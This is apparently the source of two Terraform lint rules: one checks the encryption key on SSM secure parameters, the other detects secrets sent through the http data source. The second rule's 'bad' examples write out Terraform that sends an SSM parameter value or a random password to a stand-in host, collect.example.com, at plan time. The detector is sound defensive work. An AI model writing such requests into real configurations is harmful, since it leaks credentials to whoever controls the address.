import type { TerraformDocument } from '../../src/core/document.ts'
import type { Rule } from '../../src/core/rule.ts'
import { referencesIn } from '../../src/core/terraform/link.ts'
import { read } from '../../src/core/terraform/read.ts'
import { isUnknown, type Value } from '../../src/core/terraform/value.ts'
import { isOneOf, when } from './shared/demand.ts'
import { example } from './shared/example.ts'
import { family, type Judge, type Told } from './shared/family.ts'
import { aliasesOf } from './shared/foreign-ids.ts'
import { ownKey } from './shared/own-key.ts'
import { awsPage } from './shared/written.ts'

const isSecure = isOneOf('SecureString')

/** Attributes that are secrets, by type of resource or data source. */
const secretAttributes: ReadonlyMap<string, string> = new Map([
  ['aws_ssm_parameter', 'value'],
  ['aws_secretsmanager_secret_version', 'secret_string'],
  ['random_password', 'result'],
])

/** The address of a secret that goes into a value. */
function secretWithin(value: Value | undefined, document: TerraformDocument): string | undefined {
  if (isUnknown(value)) {
    const found = referencesIn(value).find(({ address, attribute }) => {
      const [, type = ''] = /^(?:.*\.)?(\w+)\.\w+(?:\[[^\]]*\])?$/.exec(address.slice(0, 500)) ?? []
      return secretAttributes.get(type) === attribute
    })
    return found?.address
  }
  return typeof value === 'string' ? literalWithin(value, document) : undefined
}

/** A secure parameter whose text the code itself sets goes into others as that text. */
function literalWithin(text: string, { resources }: TerraformDocument): string | undefined {
  return resources.find((resource) => {
    const { value } = read(resource, 'value')
    const isSecret =
      resource.resourceType === 'aws_ssm_parameter' && isSecure(read(resource, 'type').value ?? null)
    return isSecret && typeof value === 'string' && value.length >= 6 && text.includes(value)
  })?.address
}

const sent = ['url', 'request_body', 'request_headers']

const sendsSecret: Judge = (resource, { document }) =>
  sent.flatMap((path): Told[] => {
    const { value, place } = read(resource, path)
    const values = value instanceof Map ? [...value.values()] : [value]
    const address = values.map((each) => secretWithin(each, document)).find((found) => found !== undefined)
    if (address === undefined) return []
    return [{ kind: 'bad', what: path, place, fact: `${path} is made with ${address}` }]
  })

const parameter = (...lines: readonly string[]) =>
  example('aws_ssm_parameter.dsn', 'name = "/warehouse/dsn"', ...lines)
const http = (url: string) => `data "http" "report" {\n  url = ${url}\n}\n`
const hole = (of: string) => `\${${of}}`

const rules: readonly Rule[] = [
  family({
    id: 'terraform/ssm-parameter-kms',
    title: 'Encrypt secure parameters with a key of your own',
    severity: 'low',
    on: ['aws_ssm_parameter'],
    problem: 'is encrypted with the key that AWS keeps for the account',
    judge: when('type', isSecure, ownKey('key_id'), { absent: false }),
    why: 'With the default key everybody in the account who may call GetParameter reads the value in clear. A key of your own is a second lock with its own policy and log.',
    fix: 'Set `key_id = aws_kms_key.secrets.arn`. Readers then need `kms:Decrypt` on that key.',
    references: [
      'https://docs.aws.amazon.com/systems-manager/latest/userguide/secure-string-parameter-kms-encryption.html',
      awsPage('ssm_parameter'),
    ],
    aliases: aliasesOf('CKV_AWS_337'),
    examples: {
      bad: [
        parameter('type  = "SecureString"', 'value = var.dsn') + variable(),
        parameter('type   = "SecureString"', 'key_id = "alias/aws/ssm"', 'value  = var.dsn') + variable(),
      ],
      good: [
        parameter('type  = "String"', 'value = "warehouse.internal:5432"'),
        parameter('type   = "SecureString"', 'key_id = "alias/secrets"', 'value  = var.dsn') + variable(),
        `${example('aws_kms_key.secrets')}${parameter('type   = "SecureString"', 'key_id = aws_kms_key.secrets.arn', 'value  = var.dsn')}${variable()}`,
      ],
    },
  }),
  family({
    id: 'terraform/ssm-parameter-over-http',
    title: 'Send no secret through the http data source',
    severity: 'high',
    on: ['data.http'],
    problem: 'sends a secret to a web server',
    judge: sendsSecret,
    why: 'A data source runs when the plan is made, on every pull request that plans. Whoever can change the address gets the secret before anybody has approved anything, and it stands in the log of the server and in the state.',
    fix: 'Take the secret out of the request. What must call a service with it does so at run time, with an identity of its own.',
    references: [
      'https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http',
      'https://docs.aws.amazon.com/systems-manager/latest/userguide/systems-manager-parameter-store.html',
    ],
    aliases: aliasesOf('CKV2_AWS_36', 'AWS-0134', 'aws-ssm-avoid-leaks-via-http'),
    examples: {
      bad: [
        `data "aws_ssm_parameter" "dsn" {\n  name = "/warehouse/dsn"\n}\n${http(`"https://collect.example.com/?v=${hole('data.aws_ssm_parameter.dsn.value')}"`)}`,
        `resource "random_password" "etl" {\n  length = 24\n}\n${http(`"https://collect.example.com/${hole('random_password.etl.result')}"`)}`,
      ],
      good: [
        http('"https://api.example.com/ip"'),
        `data "aws_ssm_parameter" "dsn" {\n  name = "/warehouse/dsn"\n}\n${http(`"https://collect.example.com/?v=${hole('data.aws_ssm_parameter.dsn.version')}"`)}`,
      ],
    },
  }),
]

function variable(): string {
  return 'variable "dsn" {\n  type      = string\n  sensitive = true\n}\n'
}

export default rules
